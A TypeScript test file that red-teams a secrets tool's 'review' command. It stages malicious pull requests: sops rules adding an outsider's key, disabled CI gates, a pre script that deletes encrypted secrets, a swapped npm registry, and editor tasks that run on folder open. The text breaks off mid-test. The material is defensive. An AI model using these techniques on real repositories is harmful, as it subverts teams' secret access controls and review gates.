/**
 * Red team of `review` on real git repositories (test-only age keys made by age-keygen in each
 * sandbox): pull requests crafted by someone with push access and no environment key, each of which
 * review once passed as clean. Every run of review here is keyless; no value may appear in its output.
 */
import { mkdirSync, renameSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it, vi } from "vitest";
import { aliceProject, createSandbox, infraProject, type RunResult, type Sandbox, sandboxesCleanedAfterEach } from "./helpers/cli.js";

vi.setConfig({ testTimeout: 180_000 });

const sandboxes = sandboxesCleanedAfterEach();

const VALUES = ["sk_live_REDteam0001aaaa", "hs_token_REDteam0002bbbb", "sk_live_REDteam0003cccc"];

interface Problem {
  kind: string;
  environment?: string;
  file?: string;
  message: string;
}

/** A project of alice's with staging and production, a connector using stripe_api_key, committed on `main`. */
async function project(): Promise<Sandbox> {
  const { s } = await aliceProject(sandboxes, "staging,production", [
    ["stripe_api_key", "staging", VALUES[0] as string],
    ["stripe_api_key", "production", VALUES[2] as string],
    ["hubspot_api_token", "production", VALUES[1] as string],
  ]);
  s.write("connectors/stripe.yaml", "kind: auth_connector\nname: stripe\ntype: bearer_token\ntoken: { secret: stripe_api_key }\n");
  s.commit("base");
  s.git(["branch", "-M", "main"]);
  s.git(["checkout", "-q", "-b", "attack"]);
  return s;
}

/**
 * A project in the repository's subfolder `infra` (its own stellar.yaml, production only, `git setup`
 * run there: infra/.gitattributes), committed on `main`; then on branch `attack`. Review runs in infra.
 */
async function subfolderProject(): Promise<{ s: Sandbox; infra: string }> {
  const s = createSandbox();
  sandboxes.push(s);
  const infra = await infraProject(s, VALUES[2] as string);
  expect((await s.run(["git", "setup"], { cwd: infra })).code).toBe(0);
  s.write("README.md", "monorepo\n");
  s.commit("base");
  s.git(["checkout", "-q", "-b", "attack"]);
  return { s, infra };
}

/**
 * Commits everything with `--no-verify`: the pre-commit hook (which `git setup` installed) now
 * refuses what check reports above a project's root, as an attacker's own clone would not.
 */
function commitPastHook(s: Sandbox, message: string): void {
  s.git(["add", "-A"]);
  s.git(["commit", "-q", "--no-verify", "-m", message]);
}

/** What the change under test made is already in the base once main moves to it: a later change (a README edit) reviews clean. */
async function expectCleanOnceInBase(s: Sandbox, infra: string): Promise<void> {
  s.git(["branch", "-f", "main", "HEAD"]);
  s.write("README.md", "monorepo, again\n");
  commitPastHook(s, "readme");
  expect(await problemsOf(s, "main..HEAD", infra)).toEqual({ code: 0, problems: [] });
}

/** review BASE..HEAD without any key, checked for values in its output. */
async function review(s: Sandbox, args: string[], cwd?: string): Promise<RunResult> {
  const r = await s.run(["review", ...args], { env: { SOPS_AGE_KEY_FILE: undefined, SOPS_AGE_KEY: undefined }, ...(cwd === undefined ? {} : { cwd }) });
  for (const v of VALUES) {
    expect(r.stdout).not.toContain(v);
    expect(r.stderr).not.toContain(v);
  }
  expect(r.stdout).not.toContain("AGE-SECRET-KEY");
  return r;
}

async function problemsOf(s: Sandbox, range = "main..HEAD", cwd?: string): Promise<{ code: number; problems: Problem[] }> {
  const r = await review(s, [range, "--json"], cwd);
  expect([0, 1], r.stderr).toContain(r.code);
  return { code: r.code, problems: (JSON.parse(r.stdout) as { problems: Problem[] }).problems };
}

describe("review, red team", () => {
  it("flags a .sops.yaml replaced by a symbolic link to creation rules that name a non-member (plain sops reads the target)", async () => {
    const s = await project();
    const mallory = s.keygen("mallory");
    const rules = s.read(".sops.yaml").replace(/^( {4}age: .*)$/gm, `$1,${mallory.recipient}`);
    expect(rules).toContain(mallory.recipient);
    mkdirSync(join(s.repo, "docs"), { recursive: true });
    s.write("docs/sops-rules.yaml", rules);
    unlinkSync(join(s.repo, ".sops.yaml"));
    symlinkSync("docs/sops-rules.yaml", join(s.repo, ".sops.yaml"));
    s.commit("docs: move the sops rules next to the docs");
    const { code, problems } = await problemsOf(s);
    expect(code).toBe(1);
    expect(problems).toMatchObject([{ kind: "weakened-rule", file: ".sops.yaml" }]);
    expect(problems[0]?.message).toContain(".sops.yaml is a symbolic link to docs/sops-rules.yaml");
    // the same edit in the file itself is sops-config-drift: the link must not be the way around it
    unlinkSync(join(s.repo, ".sops.yaml"));
    renameSync(join(s.repo, "docs/sops-rules.yaml"), join(s.repo, ".sops.yaml"));
    s.commit("the rules as a file");
    const inFile = await problemsOf(s);
    expect(inFile.code).toBe(1);
    expect(inFile.problems.map((p) => p.kind)).not.toContain("weakened-rule");
    expect(inFile.problems.some((p) => p.message.includes("sops-config-drift"))).toBe(true);
  });

  it("reads the .gitattributes above a project in a subfolder: a filter, a merge driver taken off, a macro defined at the top", async () => {
    const { s, infra } = await subfolderProject();
    // git applies the top's .gitattributes to infra/secrets too (infra/.gitattributes sets diff and merge only)
    s.write(".gitattributes", "infra/secrets/*.enc.yaml filter=lfs\n");
    commitPastHook(s, "store large files in lfs");
    const filtered = await problemsOf(s, "main..HEAD", infra);
    expect(filtered.code).toBe(1);
    expect(filtered.problems).toMatchObject([{ kind: "weakened-rule", file: "../.gitattributes", line: 1 }]);
    expect(filtered.problems[0]?.message).toContain("gives secrets/production.enc.yaml filter=lfs");
    // git reads [attr] macros only from the top's .gitattributes: one defined there, used in infra's
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write(".gitattributes", "[attr]stellar-files -merge\n");
    s.write("infra/.gitattributes", `${s.read("infra/.gitattributes")}secrets/*.enc.yaml stellar-files\n`);
    commitPastHook(s, "group the attributes");
    const macro = await problemsOf(s, "main..HEAD", infra);
    expect(macro.code).toBe(1);
    expect(macro.problems).toMatchObject([{ kind: "weakened-rule", file: ".gitattributes" }]);
    expect(macro.problems[0]?.message).toContain("off the stellar-secrets merge driver (merge=stellar; now -merge)");
    // an honest change above the root (not about the project's files) is no problem
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write(".gitattributes", "*.png binary\n");
    commitPastHook(s, "pngs are binary");
    expect(await problemsOf(s, "main..HEAD", infra)).toEqual({ code: 0, problems: [] });
  });

  it("reads a .sops.yaml above a project in a subfolder: plain sops run at the top encrypts the project's files for its recipients", async () => {
    const { s, infra } = await subfolderProject();
    const mallory = s.keygen("mallory");
    s.write(".sops.yaml", `creation_rules:\n  - age: ${mallory.recipient}\n`);
    commitPastHook(s, "sops defaults for the monorepo");
    const { code, problems } = await problemsOf(s, "main..HEAD", infra);
    expect(code).toBe(1);
    expect(problems).toMatchObject([{ kind: "non-member-recipient", file: "../.sops.yaml", line: 2 }]);
    expect(problems[0]?.message).toContain(mallory.recipient);
    expect(problems[0]?.message).toContain("infra/secrets/production.enc.yaml");
    // one that names exactly the members is no problem, and neither is one already in the base
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write(".sops.yaml", s.read("infra/.sops.yaml"));
    commitPastHook(s, "the same rules at the top");
    expect(await problemsOf(s, "main..HEAD", infra)).toEqual({ code: 0, problems: [] });
    s.write(".sops.yaml", `creation_rules:\n  - age: ${mallory.recipient}\n`);
    commitPastHook(s, "mallory's rules");
    await expectCleanOnceInBase(s, infra);
  });

  it("flags a .sops.yaml above a project in a subfolder made a symbolic link out of the repository (each clone's sops reads its own file there), committed or in the working tree", async () => {
    const { s, infra } = await subfolderProject();
    const mallory = s.keygen("mallory");
    const outside = join(s.dir, "elsewhere-sops.yaml");
    writeFileSync(outside, `creation_rules:\n  - age: ${mallory.recipient}\n`);
    symlinkSync(outside, join(s.repo, ".sops.yaml"));
    const working = await problemsOf(s, "main", infra);
    // once: the working tree's check reads the same link (sops-config-drift at its line 1), which is this problem
    expect(working.code).toBe(1);
    expect(working.problems).toMatchObject([{ kind: "weakened-rule", file: "../.sops.yaml" }]);
    expect(working.problems[0]?.message).toContain(`a symbolic link to ${outside}, outside the repository`);
    commitPastHook(s, "sops rules from the shared drive");
    const committed = await problemsOf(s, "main..HEAD", infra);
    expect(committed.code).toBe(1);
    expect(committed.problems).toMatchObject([{ kind: "weakened-rule", file: "../.sops.yaml" }]);
    expect(committed.problems[0]?.message).toContain(`a symbolic link to ${outside}, outside the repository`);
    // already so in the base: not this change's
    await expectCleanOnceInBase(s, infra);
  });

  it("reads a case variant above a project in a subfolder as check does (a lone .SOPS.yaml, .GitAttributes): sops and git on macOS and Windows open them by the name", async () => {
    const { s, infra } = await subfolderProject();
    const mallory = s.keygen("mallory");
    s.write(".SOPS.yaml", `creation_rules:\n  - age: ${mallory.recipient}\n`);
    commitPastHook(s, "sops defaults for the monorepo");
    const sops = await problemsOf(s, "main..HEAD", infra);
    expect(sops.code).toBe(1);
    expect(sops.problems).toMatchObject([{ kind: "non-member-recipient", file: "../.SOPS.yaml", line: 2 }]);
    expect(sops.problems[0]?.message).toContain(mallory.recipient);
    // check in the working tree agrees
    expect((await s.run(["check"], { cwd: infra })).code).toBe(1);
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write(".GitAttributes", "infra/secrets/*.enc.yaml filter=lfs\n");
    commitPastHook(s, "store large files in lfs");
    const attributes = await problemsOf(s, "main..HEAD", infra);
    expect(attributes.code).toBe(1);
    expect(attributes.problems).toMatchObject([{ kind: "weakened-rule", file: "../.GitAttributes", line: 1 }]);
    expect(attributes.problems[0]?.message).toContain("filter=lfs");
    // .sops.yml is not read by sops (it warns and ignores it): no problem
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write(".sops.yml", `creation_rules:\n  - age: ${mallory.recipient}\n`);
    commitPastHook(s, "a .sops.yml");
    expect(await problemsOf(s, "main..HEAD", infra)).toEqual({ code: 0, problems: [] });
  });

  it("flags a .sops.yaml rule for an outsider whose path_regex RE2 matches and the check read otherwise (\\Q…\\E) or not at all ((?U), flags after the start)", async () => {
    const s = await project();
    const mallory = s.keygen("mallory");
    for (const regex of ["\\Qproduction.enc\\E", "(?U)production", "prod(?i)uction"]) {
      s.git(["checkout", "-q", "-B", "attack", "main"]);
      // a first rule sops (Go RE2) uses for secrets/production.enc.yaml; the members' rules stay as they were
      s.write(".sops.yaml", s.read(".sops.yaml").replace("creation_rules:\n", `creation_rules:\n  - path_regex: '${regex}'\n    age: ${mallory.recipient}\n`));
      s.commit("sops: a rule for the production tooling");
      const { code, problems } = await problemsOf(s);
      expect(code, regex).toBe(1);
      const said = problems.filter((p) => p.file === ".sops.yaml").map((p) => p.message).join("\n");
      expect(said, regex).toContain(mallory.recipient);
      expect(said, regex).toMatch(regex.includes("(?i)") ? /cannot read as sops reads it \(Go RE2\), so sops may use it for secrets\/production\.enc\.yaml/ : /not a member of production \(it would give them access\)/);
    }
  });

  it("flags a change to a local action that runs stellar-secrets for the gate workflow, and a workflow change that stops using it", async () => {
    const s = await project();
    s.git(["checkout", "-q", "main"]);
    const ACTION = ".github/actions/secrets-gate/action.yml";
    const WORKFLOW = ".github/workflows/ci.yml";
    s.write(ACTION, 'name: secrets gate\nruns:\n  using: composite\n  steps:\n    - run: npx stellar-secrets review "origin/main...HEAD"\n      shell: bash\n');
    s.write(WORKFLOW, "on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ./.github/actions/secrets-gate\n");
    s.commit("ci: the secrets gate as a local action");
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    // the action's review made harmless: the workflow file itself does not change
    s.write(ACTION, s.read(ACTION).replace('HEAD"', 'HEAD" || true'));
    s.commit("ci: do not fail on flaky review");
    const edited = await problemsOf(s);
    expect(edited.code).toBe(1);
    expect(edited.problems).toMatchObject([{ kind: "weakened-rule", file: ACTION }]);
    // the workflow stops using the action: the workflow never names stellar-secrets itself
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write(WORKFLOW, s.read(WORKFLOW).replace("      - uses: ./.github/actions/secrets-gate\n", ""));
    s.commit("ci: trim");
    const dropped = await problemsOf(s);
    expect(dropped.code).toBe(1);
    expect(dropped.problems).toMatchObject([{ kind: "weakened-rule", file: WORKFLOW }]);
    // the same with a local reusable workflow that runs the gate
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write(".github/workflows/gate.yml", 'on: workflow_call\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - run: npx stellar-secrets review "origin/main...HEAD"\n');
    s.write(WORKFLOW, s.read(WORKFLOW).replace("  gate:\n", "  reuse:\n    uses: ./.github/workflows/gate.yml\n  gate:\n"));
    s.commit("ci: the gate as a reusable workflow");
    s.git(["branch", "-f", "main", "HEAD"]);
    s.write(WORKFLOW, s.read(WORKFLOW).replace("  reuse:\n    uses: ./.github/workflows/gate.yml\n", ""));
    s.commit("ci: trim again");
    const reusable = await problemsOf(s);
    expect(reusable.code).toBe(1);
    expect(reusable.problems).toMatchObject([{ kind: "weakened-rule", file: WORKFLOW }]);
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    // another local action changing is no problem
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write(".github/actions/lint/action.yml", "name: lint\nruns:\n  using: composite\n  steps: []\n");
    s.commit("ci: a lint action");
    expect(await problemsOf(s)).toEqual({ code: 0, problems: [] });
  });

  it("follows the gate workflow into the scripts it runs: a script that stops running review, a file it sources, a package.json script wrapped by a pre script", async () => {
    const s = await project();
    s.git(["checkout", "-q", "main"]);
    const WORKFLOW = ".github/workflows/ci.yml";
    s.write(WORKFLOW, "on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./scripts/gate.sh\n      - run: npm run secrets:check\n");
    s.write("scripts/gate.sh", '#!/bin/sh\nset -e\n. "$(dirname "$0")/lib.sh"\nreview_range "origin/main...HEAD"\n');
    s.write("scripts/lib.sh", 'review_range() { npx stellar-secrets review "$1"; }\n');
    s.write("package.json", `${JSON.stringify({ name: "org-secrets", private: true, scripts: { "secrets:check": "stellar-secrets check" }, devDependencies: { "@stellar-secrets/cli": "0.1.0" } }, null, 2)}\n`);
    s.commit("ci: the gate in scripts");
    const attacks: [string, () => void, string, string][] = [
      ["the script made harmless", () => s.write("scripts/gate.sh", "#!/bin/sh\nexit 0\n"), "scripts/gate.sh", "is changed; the CI gate runs it (from .github/workflows/ci.yml) and it runs stellar-secrets"],
      ["the file it sources", () => s.write("scripts/lib.sh", "review_range() { :; }\n"), "scripts/lib.sh", "is changed; the CI gate runs it"],
      [
        "a pre script around the package.json script",
        () => s.write("package.json", s.read("package.json").replace('"secrets:check": "stellar-secrets check"', '"presecrets:check": "rm -rf secrets/*.enc.yaml", "secrets:check": "stellar-secrets check"')),
        "package.json",
        `package.json's script "secrets:check" is changed; the CI gate runs it (from .github/workflows/ci.yml)`,
      ],
    ];
    for (const [what, attack, file, said] of attacks) {
      s.git(["checkout", "-q", "-B", "attack", "main"]);
      attack();
      s.commit(`ci: ${what}`);
      const { code, problems } = await problemsOf(s);
      expect(code, what).toBe(1);
      expect(problems, what).toMatchObject([{ kind: "weakened-rule", file }]);
      expect(problems[0]?.message, what).toContain(said);
    }
    // the same script edit is found before it is committed (review against the working tree)
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write("scripts/gate.sh", "#!/bin/sh\nexit 0\n");
    const uncommitted = await review(s, ["main", "--json"]);
    expect(uncommitted.code, uncommitted.stderr).toBe(1);
    expect((JSON.parse(uncommitted.stdout) as { problems: Problem[] }).problems).toMatchObject([{ kind: "weakened-rule", file: "scripts/gate.sh" }]);
    s.git(["checkout", "-q", "--", "scripts/gate.sh"]);
    // the package's own version, or a script the gate does not run, is no problem
    s.write("package.json", s.read("package.json").replace('"private": true', '"private": true,\n  "version": "2.0.0"'));
    s.write("scripts/other.sh", "echo unrelated\n");
    s.commit("chore: bump");
    expect(await problemsOf(s)).toEqual({ code: 0, problems: [] });
  });

  it("follows the gate into the dependencies it runs stellar-secrets from (npx, npm ci): the CLI's version or source, an install script, the lockfile, .npmrc", async () => {
    const s = await project();
    s.git(["checkout", "-q", "main"]);
    s.write(".github/workflows/ci.yml", "on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npx stellar-secrets review origin/main...HEAD\n");
    s.write("package.json", `${JSON.stringify({ name: "org-secrets", private: true, devDependencies: { "@stellar-secrets/cli": "0.1.0" } }, null, 2)}\n`);
    s.write("package-lock.json", '{ "lockfileVersion": 3, "packages": { "node_modules/@stellar-secrets/cli": { "version": "0.1.0", "integrity": "sha512-AAAA" } } }\n');
    s.commit("ci: the gate from the pinned CLI");
    const attacks: [string, () => void, string, string][] = [
      ["the CLI from the pull request's own folder", () => s.write("package.json", s.read("package.json").replace('"0.1.0"', '"file:./tools/cli"')), "package.json", "package.json (its dependencies or install scripts)"],
      ["a postinstall script", () => s.write("package.json", s.read("package.json").replace('"private": true', '"private": true,\n  "scripts": { "postinstall": "node tools/patch.js" }')), "package.json", "package.json (its dependencies or install scripts)"],
      ["the lockfile's integrity", () => s.write("package-lock.json", s.read("package-lock.json").replace("sha512-AAAA", "sha512-BBBB")), "package-lock.json", "are changed (package-lock.json)"],
      ["another registry", () => s.write(".npmrc", "registry=https://npm.example.invalid/\n"), ".npmrc", "are changed (.npmrc)"],
    ];
    for (const [what, attack, file, said] of attacks) {
      s.git(["checkout", "-q", "-B", "attack", "main"]);
      attack();
      s.commit(`deps: ${what}`);
      const { code, problems } = await problemsOf(s);
      expect(code, what).toBe(1);
      expect(problems, what).toMatchObject([{ kind: "weakened-rule", file }]);
      expect(problems[0]?.message, what).toContain("the dependencies the CI gate installs");
      expect(problems[0]?.message, what).toContain(said);
    }
  });

  it("compares a lockfile larger than the gate reader reads (1 MiB) by its git blob id, committed or in the working tree, and a binary one (bun.lockb)", async () => {
    const s = await project();
    s.git(["checkout", "-q", "main"]);
    s.write(".github/workflows/ci.yml", "on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci\n      - run: npx stellar-secrets review origin/main...HEAD\n");
    s.write("package.json", `${JSON.stringify({ name: "org-secrets", private: true, devDependencies: { "@stellar-secrets/cli": "0.1.0" } }, null, 2)}\n`);
    // a real monorepo's lockfile: thousands of packages, over 1 MiB
    const others = Array.from({ length: 9000 }, (_, i) => `    "node_modules/pkg-${i}": { "version": "1.0.${i}", "integrity": "sha512-${"x".repeat(88)}" }`).join(",\n");
    s.write("package-lock.json", `{ "lockfileVersion": 3, "packages": {\n${others},\n    "node_modules/@stellar-secrets/cli": { "version": "0.1.0", "integrity": "sha512-AAAA" } } }\n`);
    expect(s.read("package-lock.json").length).toBeGreaterThan(1024 * 1024);
    s.write("bun.lockb", Buffer.from([0x23, 0x21, 0xff, 0xfe, 0x00, 0x01, 0x80, 0x81]) as unknown as string);
    s.commit("ci: the gate from the pinned CLI, a large lockfile");
    // the same large lockfile on both sides is no change
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write("README.md", "docs only\n");
    s.commit("docs");
    expect((await problemsOf(s)).problems.filter((p) => p.kind === "weakened-rule")).toEqual([]);
    // committed: the integrity of the CLI's entry changed
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write("package-lock.json", s.read("package-lock.json").replace("sha512-AAAA", "sha512-BBBB"));
    s.commit("deps: the lockfile's integrity");
    const committed = await problemsOf(s);
    expect(committed.code).toBe(1);
    expect(committed.problems).toMatchObject([{ kind: "weakened-rule", file: "package-lock.json" }]);
    expect(committed.problems[0]?.message).toContain("are changed (package-lock.json)");
    // the working tree against main (review BASE): the same change, not yet committed
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write("package-lock.json", s.read("package-lock.json").replace("sha512-AAAA", "sha512-CCCC"));
    const working = await review(s, ["main", "--json"]);
    expect(working.code, working.stderr).toBe(1);
    expect((JSON.parse(working.stdout) as { problems: Problem[] }).problems).toMatchObject([{ kind: "weakened-rule", file: "package-lock.json" }]);
    // a binary lockfile (bun's older bun.lockb) changed
    s.git(["checkout", "-q", "--", "package-lock.json"]);
    s.write("bun.lockb", Buffer.from([0x23, 0x21, 0xff, 0xfe, 0x00, 0x02, 0x80, 0x81]) as unknown as string);
    s.commit("deps: bun.lockb");
    const binary = await problemsOf(s);
    expect(binary.code).toBe(1);
    expect(binary.problems).toMatchObject([{ kind: "weakened-rule", file: "bun.lockb" }]);
  });

  it("follows a gate script larger than the gate reader reads (1 MiB) into what it runs, committed or in the working tree, reading it in pieces", async () => {
    const s = await project();
    s.git(["checkout", "-q", "main"]);
    s.write(".github/workflows/ci.yml", "on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./scripts/gate.sh\n");
    // a generated gate script (vendored helpers, a long notice): over 1 MiB; what runs the review is in a file it sources
    const notice = `# ${"generated notice ".repeat(7)}\n`.repeat(9000);
    s.write("scripts/gate.sh", `#!/bin/sh\nset -e\n${notice}. ./ci/review.sh\n${notice}`);
    expect(s.read("scripts/gate.sh").length).toBeGreaterThan(1024 * 1024);
    s.write("ci/review.sh", "npx stellar-secrets review origin/main...HEAD\n");
    s.commit("ci: the gate");
    // committed: the sourced file no longer runs the review
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write("ci/review.sh", "echo reviewed\n");
    s.commit("ci: faster");
    const committed = await problemsOf(s);
    expect(committed.code).toBe(1);
    expect(committed.problems).toMatchObject([{ kind: "weakened-rule", file: "ci/review.sh" }]);
    // the working tree against main: the large script changed so that it sources nothing
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write("scripts/gate.sh", s.read("scripts/gate.sh").replace(". ./ci/review.sh\n", "true\n"));
    const working = await review(s, ["main", "--json"]);
    expect(working.code, working.stderr).toBe(1);
    expect((JSON.parse(working.stdout) as { problems: Problem[] }).problems).toMatchObject([{ kind: "weakened-rule", file: "scripts/gate.sh" }]);
  });

  it("follows a gate that is not UTF-8 (written on a Latin-1 system) as a UTF-8 one: a script into what it sources, a package.json's scripts as npm reads them; committed and in the working tree", async () => {
    const s = await project();
    s.git(["checkout", "-q", "main"]);
    s.write(".github/workflows/ci.yml", "on: pull_request\njobs:\n  gate:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./scripts/gate.sh\n      - run: npm test\n");
    // "é" as one byte (0xe9): no UTF-8; sh, node and npm read such files all the same
    const latin1 = (rel: string, text: string) => writeFileSync(join(s.repo, rel), Buffer.from(text, "latin1"));
    const pkg = (test: string) => `{ "name": "infra", "description": "les secrets de l'équipe", "scripts": { "test": ${JSON.stringify(test)} } }\n`;
    mkdirSync(join(s.repo, "scripts"), { recursive: true });
    latin1("scripts/gate.sh", "#!/bin/sh\n# vérifie les secrets\nset -e\n. ./ci/review.sh\n");
    s.write("ci/review.sh", "npx stellar-secrets review origin/main...HEAD\n");
    latin1("package.json", pkg("stellar-secrets check --strict"));
    s.commit("ci: the gate");
    // committed: the sourced file and package.json's test script no longer run stellar-secrets
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    s.write("ci/review.sh", "echo reviewed\n");
    latin1("package.json", pkg("echo checked"));
    s.commit("ci: faster");
    const committed = await problemsOf(s);
    expect(committed.code).toBe(1);
    expect(committed.problems.map((p) => [p.kind, p.file]), JSON.stringify(committed.problems.map((p) => p.message))).toEqual([
      ["weakened-rule", "ci/review.sh"],
      ["weakened-rule", "package.json"],
    ]);
    expect(committed.problems[1]?.message).toContain("package.json's script \"test\" is changed");
    // the working tree against main: the script changed so that it sources nothing
    s.git(["checkout", "-q", "-B", "attack", "main"]);
    latin1("scripts/gate.sh", "#!/bin/sh\n# vérifie les secrets\nset -e\ntrue\n");
    latin1("package.json", pkg("true"));
    const working = await review(s, ["main", "--json"]);
    expect(working.code, working.stderr).toBe(1);
    expect((JSON.parse(working.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", "package.json"],
      ["weakened-rule", "scripts/gate.sh"],
    ]);
  });

  it("flags committed editor settings that decide what members' editors run and show (stellarSecrets.cliPath for Test Credential, rules), not other settings", async () => {
    const s = await project();
    mkdirSync(join(s.repo, ".vscode"), { recursive: true });
    s.write(".vscode/settings.json", '{\n  // the team\'s editor\n  "editor.tabSize": 2,\n  "stellarSecrets.cliPath": "./tools/stellar-secrets.sh",\n}\n');
    s.write("tools/stellar-secrets.sh", '#!/bin/sh\nexec npx stellar-secrets "$@"\n');
    s.commit("editor: use the pinned CLI");
    const { code, problems } = await problemsOf(s);
    expect(code).toBe(1);
    expect(problems).toMatchObject([{ kind: "weakened-rule", file: ".vscode/settings.json" }]);
    expect(problems[0]?.message).toContain(".vscode/settings.json changes stellarSecrets.cliPath: VS Code applies a repository's editor settings for every member");
    // another setting of the file is no problem
    s.git(["branch", "-f", "main", "HEAD"]);
    s.write(".vscode/settings.json", s.read(".vscode/settings.json").replace('"editor.tabSize": 2', '"editor.tabSize": 4'));
    s.commit("editor: wider tabs");
    expect(await problemsOf(s)).toEqual({ code: 0, problems: [] });
  });

  it("flags the same settings in a workspace file and a dev container's settings, which VS Code also applies", async () => {
    const s = await project();
    s.write("team.code-workspace", '{\n  "folders": [{ "path": "." }],\n  // shared\n  "settings": { "stellarSecrets.cliPath": "./tools/x.sh", },\n}\n');
    mkdirSync(join(s.repo, ".devcontainer"), { recursive: true });
    s.write(".devcontainer/devcontainer.json", '{ "image": "node:20", "customizations": { "vscode": { "settings": { "stellarSecrets": { "rules": { "plaintext-credential": "off" } } } } } }\n');
    s.commit("editor: a workspace and a container");
    const { code, problems } = await problemsOf(s);
    expect(code).toBe(1);
    expect(problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", ".devcontainer/devcontainer.json"],
      ["weakened-rule", "team.code-workspace"],
    ]);
    expect(problems[1]?.message).toContain("team.code-workspace changes stellarSecrets.cliPath: VS Code applies");
    // a workspace file's folders are no setting
    s.git(["branch", "-f", "main", "HEAD"]);
    s.write("team.code-workspace", s.read("team.code-workspace").replace('{ "path": "." }', '{ "path": "." }, { "path": "../docs" }'));
    s.commit("editor: docs in the workspace");
    expect(await problemsOf(s)).toEqual({ code: 0, problems: [] });
  });

  it("flags Zed's and Helix's project files that make a member's editor run a program (a language server's binary or command), not their other settings", async () => {
    const s = await project();
    s.write(".zed/settings.json", '{\n  // the team\'s language server\n  "lsp": { "stellar-secrets": { "binary": { "path": "./tools/language-server.sh" } } },\n}\n');
    s.write(".helix/languages.toml", '[language-server.stellar-secrets]\ncommand = "sh"\nargs = ["-c", "./tools/language-server.sh"]\n\n[[language]]\nname = "yaml"\nlanguage-servers = ["stellar-secrets"]\n');
    s.commit("editor: zed and helix");
    const { code, problems } = await problemsOf(s);
    expect(code).toBe(1);
    expect(problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", ".helix/languages.toml"],
      ["weakened-rule", ".zed/settings.json"],
    ]);
    expect(problems[0]?.message).toContain(".helix/languages.toml changes language#1.language-servers, language-server.stellar-secrets.args, language-server.stellar-secrets.command: Helix reads");
    expect(problems[1]?.message).toContain(".zed/settings.json changes lsp.stellar-secrets: Zed applies");
    // their other settings are no concern of review's
    s.git(["branch", "-f", "main", "HEAD"]);
    s.write(".zed/settings.json", s.read(".zed/settings.json").replace("  \"lsp\"", '  "tab_size": 4,\n  "lsp"'));
    s.write(".helix/languages.toml", `${s.read(".helix/languages.toml")}indent = { tab-width = 4, unit = "    " }\n`);
    s.commit("editor: indent");
    expect(await problemsOf(s)).toEqual({ code: 0, problems: [] });
  });

  it("flags a VS Code task that runs when a member opens the folder (runOptions.runOn folderOpen), in .vscode/tasks.json and in a workspace file; not a change to other tasks", async () => {
    const s = await project();
    mkdirSync(join(s.repo, ".vscode"), { recursive: true });
    s.write(".vscode/tasks.json", '{\n  "version": "2.0.0",\n  "tasks": [\n    { "label": "build", "type": "shell", "command": "npm run build" },\n  ],\n}\n');
    s.commit("editor: a build task");
    s.git(["branch", "-f", "main", "HEAD"]);
    // the pull request: the build task also runs on open (VS Code runs it at the member's next open, in a trusted workspace without asking)
    s.write(".vscode/tasks.json", s.read(".vscode/tasks.json").replace('"npm run build" }', '"npm run build", "runOptions": { "runOn": "folderOpen" } }'));
    s.write("team.code-workspace", '{ "folders": [{ "path": "." }], "tasks": { "version": "2.0.0", "tasks": [{ "label": "setup", "type": "shell", "command": "./tools/setup.sh", "runOptions": { "runOn": "folderOpen" } }] } }\n');
    s.commit("editor: tasks on open");
    const { code, problems } = await problemsOf(s);
    expect(code).toBe(1);
    expect(problems.map((p) => [p.kind, p.file])).toEqual([
      ["weakened-rule", ".vscode/tasks.json"],
      ["weakened-rule", "team.code-workspace"],
    ]);
    expect(problems[0]?.message).toContain('.vscode/tasks.json changes task "build": VS Code runs a task with runOptions.runOn "folderOpen"');
    expect(problems[0]?.message).not.toContain("stellarSecrets.cliPath is the program");
    expect(problems[1]?.message).toContain('team.code-workspace changes task "setup": VS Code runs');
    // a change to another task is no concern of review's
    s.git(["branch", "-f", "main", "HEAD"]);
    s.write(".vscode/tasks.json", s.read(".vscode/tasks.json").replace("  ],", '    { "label": "test", "type": "shell", "command": "npm test" },\n  ],'));
    s.commit("editor: a test task");
    expect(await problemsOf(s)).toEqual({ code: 0, problems: [] });
  });

  it("flags a dev container's initializeCommand (run on the member's own machine at each start of the container), what the container reaches of that machine (mounts), and its own commands (run with the member's forwarded SSH agent); not its other fields", async () => {
    const s = await project();
    mkdirSync(join(s.repo, ".devcontainer"), { recursive: true });
    s.write(".devcontainer/devcontainer.json", '{\n  // the team\'s container\n  "image": "mcr.microsoft.com/devcontainers/typescript-node:20",\n  "postCreateCommand": "npm ci",\n}\n');
    s.commit("dev container");
    s.git(["branch", "-f", "main", "HEAD"]);
    // the pull request: a command on the host, and the member's age keys mounted into the container
    s.write(
      ".devcontainer/devcontainer.json",
